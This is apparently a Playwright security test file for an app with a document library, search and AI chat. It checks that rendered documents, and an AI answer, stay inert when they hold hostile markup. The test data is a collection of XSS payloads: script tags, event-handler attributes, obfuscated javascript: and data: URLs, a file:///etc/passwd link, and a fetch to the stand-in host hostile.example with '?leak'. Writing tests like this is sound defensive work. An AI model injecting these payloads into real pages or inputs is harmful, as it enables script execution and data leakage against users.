import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import type { BrowserContext, Page } from '@playwright/test';
import { temporaryFolder } from './support/app.ts';
import { answers, ask, QUESTION, replaceAnswer, startConversation } from './support/chat.ts';
import { addByPath, createLibrary, libraryDone } from './support/library.ts';
import { expect, goTo, test } from './support/test.ts';

/** Sets a flag when it runs, and contacts a host that must not be contacted. */
const RUN = `globalThis.ranHostile=1;fetch('http://hostile.example/?leak')`;

const MARKUP = `
<script>${RUN}</script>
<img src="http://hostile.example/pixel.png" onerror="${RUN}">
<svg onload="${RUN}"><animate onbegin="${RUN}" attributeName="x" dur="1s"></animate></svg>
<iframe src="http://hostile.example/frame"></iframe>
<iframe srcdoc="<script>parent.ranHostile=1</script>"></iframe>
<object data="http://hostile.example/object"></object>
<link rel="stylesheet" href="http://hostile.example/style.css">
<meta http-equiv="refresh" content="0;url=http://hostile.example/away">
<form action="http://hostile.example/form"><button autofocus onfocus="${RUN}">Press me</button></form>
<details open ontoggle="${RUN}">open</details>
`;

const HOSTILE = `# A hostile page
${MARKUP}
[a script](javascript:${RUN.replaceAll("'", '%27')}) [in capitals](JaVaScRiPt:alert(1)) [with a tab](java\tscript:alert(1))
[entities](&#106;avascript:alert(1)) [data](data:text/html,<script>${RUN}</script>) [file](file:///etc/passwd)
![picture](http://hostile.example/picture.png) ![inline](data:image/svg+xml,<svg/onload=alert(1)>)
<javascript:alert(1)> [elsewhere](http://hostile.example/elsewhere "onmouseover=alert(1)")

$\\href{javascript:alert(1)}{formula}$ $\\includegraphics{http://hostile.example/formula.png}$

\`\`\`html"><script>${RUN}</script>
<script>${RUN}</script>
\`\`\`

| <script>${RUN}</script> | [cell](javascript:alert(1)) |
| --- | --- |
| <img src=x onerror="${RUN}"> | \u202Etxt.exe |

${'> '.repeat(300)}deep ${'['.repeat(2000)} ${'*'.repeat(2000)} ${'- '.repeat(200)}

The end of the hostile page.
`;

/** Forbidden in any window: a dialog, another window, or a request to anything but the app. */
function watch(context: BrowserContext, origin: string): string[] {
  const happened: string[] = [];
  context.on('dialog', (dialog) => {
    happened.push(`a dialog: ${dialog.message()}`);
    void dialog.dismiss();
  });
  context.on('request', (request) => {
    const url = request.url();
    if (!url.startsWith(origin) && !/^(data|blob):/.test(url)) happened.push(`a request to ${url}`);
  });
  return happened;
}

async function expectInert(window: Page, origin: string): Promise<void> {
  expect(await window.evaluate('globalThis.ranHostile')).toBeUndefined();
  expect(window.url().startsWith(origin)).toBe(true);
  for (const element of ['iframe', 'object', 'form[action]', 'main svg[onload]', 'img[src^="http://h"]']) {
    await expect(window.locator(element), element).toHaveCount(0);
  }
  for (const link of await window.locator('main a[href]').all()) {
    expect(await link.getAttribute('href')).toMatch(/^(#|https?:|mailto:)/);
  }
}

test('a hostile document does nothing, in its text and as a source', async ({
  sharedApp: app,
  sharedWindow: window,
}) => {
  const happened = watch(window.context(), app.origin);
  const folder = temporaryFolder();
  writeFileSync(join(folder.path, 'hostile.md'), HOSTILE);
  writeFileSync(
    join(folder.path, 'hostile.html'),
    `<h1>A hostile page</h1>${MARKUP}<p>The end of the hostile page.</p>`,
  );
  await createLibrary(window, 'Hostile');
  await addByPath(window, [folder.path]);
  await libraryDone(window, 'Hostile', 2);

  for (const row of [0, 1]) {
    await goTo(window, 'Library');
    await window.getByRole('grid').getByRole('link').nth(row).click();
    await window.getByRole('radiogroup', { name: 'View' }).getByText('Text', { exact: true }).click();
    const text = window.getByRole('region', { name: /^Text of/ });
    await expect(text).toContainText('A hostile page');
    await expect(async () => {
      await text.press('End');
      await expect(text).toContainText('The end of the hostile page', { timeout: 500 });
    }).toPass();
    await expectInert(window, app.origin);
  }

  await goTo(window, 'Search');
  await window.getByRole('searchbox', { name: /./ }).fill('hostile page');
  await expect(window.locator('[data-hit]').first()).toBeVisible();
  await expectInert(window, app.origin);

  await goTo(window, 'Chat');
  const answer = await ask(window, 'What does the hostile page say at its end?');
  await answer
    .getByRole('group', { name: /^\d+ sources?$/ })
    .getByRole('button')
    .first()
    .click();
  await expectInert(window, app.origin);
  expect(happened).toEqual([]);
  folder.remove();
});

test('a hostile answer does nothing', async ({ sharedApp: app, sharedWindow: window }) => {
  await startConversation(window);
  await ask(window, QUESTION);
  const happened = watch(window.context(), app.origin);
  await replaceAnswer(window, app.dataDir, { text: HOSTILE });
  const answer = answers(window);
  await expect(answer).toContainText('The end of the hostile page.');
  await expect(answer.getByRole('link', { name: /elsewhere/ })).toHaveAttribute('rel', /noopener noreferrer/);
  await expectInert(window, app.origin);
  for (const words of ['a script', 'in capitals', 'entities', 'data', 'file']) {
    await expect(answer.getByRole('link', { name: words, exact: true }), words).toHaveCount(0);
  }
  expect(happened).toEqual([]);
});
